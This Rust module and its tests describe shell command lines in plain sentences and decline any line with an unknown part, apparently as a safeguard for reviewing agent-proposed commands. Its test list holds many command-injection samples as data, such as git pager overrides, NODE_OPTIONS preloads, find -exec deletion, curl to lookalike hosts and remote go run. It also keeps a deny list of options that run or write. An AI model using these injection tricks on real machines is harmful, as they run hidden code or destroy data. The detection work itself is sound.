//! Says in a sentence what a command line does, where every part of it is known: 'Formats the code, then runs the tests'.
//!
//! It never takes the place of a warning. Nothing is said of a line of which a part is not known.

use super::command::{Command, base_name};
use super::folders::Folders;
use super::paths::for_people;
use super::programs::{Known, OF_THE_PROJECT, PROGRAMS};
use super::shell;
use super::shortened;
use crate::i18n::Word;
use crate::i18n::format::join_list;
use crate::i18n::words::danger as words;
use crate::text::review_marks::quoted;

/// One thing that a command does, in the words of people.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Step {
    word: Word,
    /// What it does it to, where that is said.
    operands: Vec<String>,
}

/// What a command line does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Summary {
    steps: Vec<Step>,
}

impl Summary {
    /// Whether it says that packages are installed, so that the warning about these needs no line of its own.
    pub fn installs(&self) -> bool {
        self.steps.iter().any(|step| [words::DOES_INSTALL, words::DOES_RUN_PACKAGE].contains(&step.word))
    }

    /// The sentence; text in backticks is code.
    pub fn words(&self) -> String {
        let phrase = |(nth, step): (usize, &Step)| {
            let names: Vec<String> = step.operands.iter().map(|operand| quoted(operand)).collect();
            let place = if nth == 0 { "first" } else { "then" };
            step.word.with(&[("place", place.into()), ("what", (&join_list(&names)).into())])
        };
        join_list(&self.steps.iter().enumerate().map(phrase).collect::<Vec<_>>())
    }
}

/// Programs in front of a command that change nothing of what it does.
const PLAIN_WRAPPERS: [&str; 7] = ["time", "env", "nice", "timeout", "nohup", "command", "stdbuf"];
/// The most steps of which a sentence is made.
const MAX_STEPS: usize = 5;

/// What a command line does; `None` if a part of it is not known. `folder` is where it runs, if not in the project.
pub fn of_command(text: &str, project: Option<&str>, folder: Option<&str>) -> Option<Summary> {
    let reading = shell::read(text);
    if !reading.unread.is_empty() {
        return None;
    }
    let start = folder.filter(|folder| Some(*folder) != project).unwrap_or_default();
    let mut folders = Folders::new(&reading.parents, start);
    let mut summary = Summary { steps: Vec::new() };
    for (at, simple) in reading.commands.iter().enumerate() {
        let before = reading.commands.get(..at).unwrap_or_default();
        let folder = folders.of(simple.subshell);
        let seen = Command::new(simple, before, project, &folder);
        for known in [known(&seen)?, written(&seen)] {
            let Known::Step(word, operands) = known else { continue };
            match summary.steps.iter_mut().find(|step| step.word == word) {
                Some(step) => {
                    let new = operands.into_iter().filter(|one| !step.operands.contains(one));
                    let new: Vec<String> = new.collect();
                    step.operands.extend(new);
                }
                None => summary.steps.push(Step { word, operands }),
            }
        }
        folders.enter(simple.subshell, &seen);
    }
    if summary.steps.iter().any(|step| step.word == words::DOES_COMMIT) {
        // Staging is a part of it.
        summary.steps.retain(|step| step.word != words::DOES_STAGE);
    }
    (!summary.steps.is_empty() && summary.steps.len() <= MAX_STEPS).then_some(summary)
}

/// What a command does; `None` if that is not known.
fn known(seen: &Command<'_>) -> Option<Known> {
    let plain = seen.wrappers.iter().all(|name| PLAIN_WRAPPERS.contains(name));
    // What runs something else is known only by that.
    if !plain || seen.wrapped_script.is_some() || seen.program.is_empty() && !seen.wrappers.is_empty() {
        return None;
    }
    if seen.arguments.iter().any(|argument| argument.contains(['`', '\0']) || argument.contains("$(")) {
        return None;
    }
    // A variable may change what a program does.
    let assigned = seen.simple.words.iter().any(|word| shell::is_assignment(word));
    if assigned && !seen.program.is_empty() || runs_or_writes(seen) {
        return None;
    }
    if seen.word.starts_with("./") && !is_elsewhere(seen, seen.word) {
        return Some(Known::Step(words::DOES_RUN, vec![shortened(seen.word)]));
    }
    if base_name(seen.word) != seen.word {
        return None; // a program of the same name, somewhere else
    }
    let known = PROGRAMS.iter().find_map(|usage| usage.of(seen));
    // What is said of the project's code is not so of other code.
    let elsewhere = || {
        let words =
            seen.arguments.iter().map(|word| word.split_once('=').map_or(word.as_str(), |(_, value)| value));
        let mut words = words.chain(["."]);
        words.any(|word| word.contains("://") || is_elsewhere(seen, word))
    };
    let of_project = match &known {
        Some(Known::Step(word, _)) => OF_THE_PROJECT.contains(word),
        _ => false,
    };
    known.filter(|_| !(of_project && elsewhere()))
}

/// True for what may lead out of the project.
fn is_elsewhere(seen: &Command<'_>, word: &str) -> bool {
    let path = seen.resolve_path(word);
    let within = |project: &str| {
        path.strip_prefix(project).is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
    };
    let absolute = path.starts_with('/') && !seen.project.is_some_and(within);
    absolute || path.starts_with('~') || path.contains('$') || path.split('/').any(|name| name == "..")
}

/// True if a program that usually reads is given an option by which it runs or writes something.
fn runs_or_writes(seen: &Command<'_>) -> bool {
    const OPTIONS: [&str; 16] = [
        "--pre",
        "--hostname-bin",
        "--compress-program",
        "--output",
        "--ext-diff",
        "--textconv",
        "--open-files-in-pager",
        "--upload-pack",
        "--receive-pack",
        "--exec",
        "-exec",
        "-toolexec",
        "-vettool",
        "-overlay",
        "--config",
        "--plugin",
    ];
    // To them `-o` means something else: a format, an alternative, only what matches.
    const OTHER_O: [&str; 10] = ["find", "grep", "kubectl", "ls", "lsof", "oc", "pgrep", "ps", "rg", "set"];
    let mut next = seen.arguments.iter().skip(1);
    seen.arguments.iter().any(|word| {
        let value = next.next();
        let name = word.split('=').next().unwrap_or_default();
        let short = word.starts_with("-O") || word.starts_with("-o") && !OTHER_O.contains(&seen.program);
        let nowhere = word == "-o" && value.is_some_and(|file| file == "/dev/null");
        OPTIONS.contains(&name) || short && !nowhere
    })
}

/// The files that a command writes by redirection or with `tee`.
fn written(seen: &Command<'_>) -> Known {
    let mut files: Vec<String> = seen.simple.writes.clone();
    if seen.program == "tee" {
        files.extend(seen.operands().map(str::to_owned));
    }
    files.retain(|file| file != "/dev/null" && file != "/dev/stderr" && file != "/dev/stdout");
    let files: Vec<String> =
        files.iter().map(|file| for_people(&seen.resolve_path(file), seen.project)).collect();
    if files.is_empty() { Known::Nothing } else { Known::Step(words::DOES_WRITE, files) }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn says(text: &str) -> String {
        of_command(text, Some("/project"), None).map(|summary| summary.words()).unwrap_or_default()
    }

    #[test]
    fn a_line_of_known_commands_is_a_sentence() {
        for (text, words) in [
            ("cargo test --workspace -- --nocapture", "Runs the tests"),
            ("cd src && cargo fmt && cargo test 2>&1 | tail -20", "Formats the code, then runs the tests"),
            (
                "npm install && npm run dev",
                "Installs packages, whose scripts may run, then runs `npm run dev` of this project",
            ),
            ("cargo fmt; cargo fmt --check; cargo clippy", "Formats the code, then checks the code"),
            ("git status && git diff | head -50", "Looks at files or history"),
            ("git add -A && git commit -m 'x' && git push", "Commits, then pushes to a server"),
            ("rm -rf build dist", "Deletes `build`, `dist`"),
            ("cd a && rm b", "Deletes `a/b`"),
            ("echo hi > notes.txt", "Writes `notes.txt`"),
            ("ls | tee out.txt", "Looks at files or history, then writes `out.txt`"),
            (
                "mkdir -p a && cp x a/ && mv y a/",
                "Creates files or folders, then copies files, then moves files",
            ),
            ("./scripts/build.sh --all", "Runs `./scripts/build.sh` of this project"),
            ("timeout 60 cargo build 2>/dev/null", "Builds the project"),
        ] {
            assert_eq!(says(text), words, "{text}");
        }
    }

    #[test]
    fn ordinary_lines_of_agents_are_sentences() {
        for (text, words) in [
            ("git add src/a.rs", "Stages changes for the next commit"),
            ("git commit --amend --no-edit", "Changes the last commit"),
            ("git --no-pager log --oneline -5", "Looks at files or history"),
            ("git branch -a", "Looks at files or history"),
            ("git branch --merged main", "Looks at files or history"),
            ("git remote -v", "Looks at files or history"),
            ("git switch -c fix/tide", "Creates a branch or switches to one"),
            (
                "git checkout -b fix/tide && git pull",
                "Creates a branch or switches to one, then fetches from a server and updates the branch",
            ),
            ("sed -n '10,40p' src/a.rs", "Looks at files or history"),
            ("find . -name '*.rs' -o -name '*.toml' | head", "Looks at files or history"),
            ("grep -rno 'x' src | sort | uniq -c", "Looks at files or history"),
            ("set -o pipefail; cargo test", "Runs the tests"),
            ("node --version && npm -v", "Shows versions"),
            ("npm ci --ignore-scripts", "Installs packages without running their scripts"),
            ("npm i x --ignore-scripts false", "Installs packages, whose scripts may run"),
            ("npm i x --ignore-scripts --no-ignore-scripts", "Installs packages, whose scripts may run"),
            ("npx cowsay --version", "Runs `cowsay` and first installs what is missing for it"),
            ("npx tsc --noEmit", "Runs `tsc` and first installs what is missing for it"),
            ("uv run pytest -q", "Runs `pytest` and first installs what is missing for it"),
            ("uv sync", "Installs packages, whose scripts may run"),
            ("uv pip list", "Lists packages"),
            ("pip list", "Lists packages"),
            ("npm ls --depth=0", "Lists packages"),
            ("yarn build && pnpm lint", "Builds the project, then checks the code"),
            ("python3 scripts/tides.py --fast", "Runs `scripts/tides.py` of this project"),
            ("python -m pytest tests -q", "Runs the tests"),
            ("python3 -m venv .venv", "Creates files or folders"),
            ("node --test tests/", "Runs the tests"),
            ("go run ./cmd/tides", "Runs `go run ./cmd/tides` of this project"),
            ("npx --no-install eslint .", ""),
            ("eslint --fix src", "Checks the code and corrects it"),
            ("prettier --check .", "Checks the code"),
            ("cmake --build build", "Builds the project"),
            ("make -j 4 lint", "Runs `make -j 4 lint` of this project"),
            (
                "docker compose up -d && docker compose ps",
                "Starts the containers of this project, then looks at containers or their logs",
            ),
            ("docker build -t tides .", "Builds a container image"),
            ("kubectl get pods -n harbour -o wide", "Reads the state of a cluster"),
            ("gh pr view 12 && gh pr checks 12", "Reads from GitHub"),
            ("gh pr create --fill", "Opens a pull request on GitHub"),
            ("terraform fmt -check", "Checks the code"),
            ("curl -s http://localhost:3000/health | jq .", "Asks a server on this machine"),
            ("curl -sS -o /dev/null -w '%{http_code}' localhost:3000", "Asks a server on this machine"),
            ("chmod +x scripts/run.sh", "Makes `scripts/run.sh` executable"),
            ("lsof -i :3000", "Looks at what runs on this machine"),
            ("cd /project && rm -rf ./build/../dist", "Deletes `dist`"),
        ] {
            assert_eq!(says(text), words, "{text}");
        }
    }

    #[test]
    fn nothing_is_said_of_a_line_of_which_a_part_is_not_known() {
        for text in [
            "",
            "foo",
            "cargo test && foo",
            "sudo cargo test",
            "ls | xargs rm",
            "ls $(foo)",
            "cat `foo`",
            "/tmp/cargo test",
            "git -c core.pager=evil log",
            "git -C /other commit -m x",
            "cargo +evil test",
            "cargo test --config evil.toml",
            "find . -exec rm {} +",
            "find . -delete",
            "rm -rf $X",
            "rm -rf *",
            "bash -c 'cargo test'",
            "python -m evil",
            "npm exec evil2 && evil",
            "cargo install-update",
            "sed -i s/a/b/ x",
            "cargo test \"unclosed",
            "PATH=x:$PATH cargo test",
            "NODE_OPTIONS='--require evil' npm test",
            "cargo() { evil; }; cargo test",
            "alias cargo=evil; cargo test",
            "cd /tmp && cargo test",
            "cd .. && ./run.sh",
            "cargo run --manifest-path=/tmp/evil/Cargo.toml",
            "make -C ../evil",
            "make -f /tmp/evil.mk",
            "npm --prefix /tmp/evil test",
            "pytest ~/evil",
            "rg --pre evil x",
            "git grep -Oevil x",
            "git fetch --upload-pack=evil",
            "sort -o x y | head",
            "git diff --output=x",
            "export A=b; cargo test",
            "source x && cargo test",
            "git branch -D x",
            "git branch x main",
            "git --exec-path=evil log",
            "git --no-pager -c core.pager=evil log",
            "git checkout main",
            "git switch -f main",
            "git remote -v update",
            "git tag -d v1",
            "sed -n 'w out' x",
            "sed -n '1e evil' x",
            "sed -f evil.sed x",
            "sort x -o y",
            "/tmp/npm install",
            "curl http://localhost.evil.example",
            "curl http://localhost@evil.example",
            "curl http://localhost:1@evil.example",
            "curl -d @x localhost:3000",
            "curl -X DELETE localhost:3000/x",
            "curl -K evil localhost",
            "curl -w '%output{x}' localhost",
            "curl -H @x localhost",
            "curl -o x localhost",
            "curl -sL localhost",
            "curl localhost https://x.example",
            "python evil.txt",
            "python /tmp/evil.py",
            "bash ../evil.sh",
            "bash ~/evil.sh",
            "bash -c evil.sh",
            "node --test --import=data:evil x",
            "node -r evil --test",
            "go run example.com/evil@latest",
            "yarn evil",
            "chmod 777 x",
            "docker compose down --rmi all",
            "docker exec x evil",
            "docker run x",
            "docker build https://x.example/evil.git",
            "docker build ../evil",
            "kubectl apply -f x.yaml",
            "kubectl exec x -- evil",
            "gh pr view --web",
            "gh pr merge 12",
            "gh api -X DELETE x",
            "terraform apply",
            "terraform plan",
            "find . -fprint x",
            "fd x -x evil",
            "cargo clippy -- --config evil.toml",
            "git commit -m \"$(evil)\"",
            "kill 1",
            "kubectl --kubeconfig=evil get pods",
            "go build -toolexec=evil ./...",
            "go vet -vettool evil ./...",
            "rg --hostname-bin=evil x",
            "cat x | sort --compress-program=evil",
            "cat x | uniq - y",
            "less '+!evil' x",
            "node --test --test-reporter=data:text/javascript,evil",
            "ss -K dst x",
            "date -s 2000-01-01 && ls",
        ] {
            assert_eq!(says(text), "", "{text}");
        }
    }
}
